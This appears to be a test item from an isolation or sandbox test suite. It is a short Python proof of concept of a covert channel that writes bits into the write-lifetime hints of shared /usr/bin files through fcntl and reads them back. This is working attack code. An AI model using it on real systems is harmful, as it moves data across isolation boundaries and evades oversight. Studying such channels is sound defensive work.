# attack: how long the data of somebody else's file will live, a number kept with the file
# wall: seccomp: fcntl
# user: root
# lasts: yes

import fcntl
import os
import struct


def files(count):
    return [os.open(f"/usr/bin/{name}", os.O_RDONLY) for name in sorted(os.listdir("/usr/bin"))[:count]]


def send(bits):
    for file, bit in zip(files(len(bits)), bits):
        fcntl.fcntl(file, 1036, struct.pack("Q", 3 if bit else 2))


def receive(count):
    return [int(struct.unpack("Q", fcntl.fcntl(file, 1035, bytes(8)))[0] == 3) for file in files(count)]
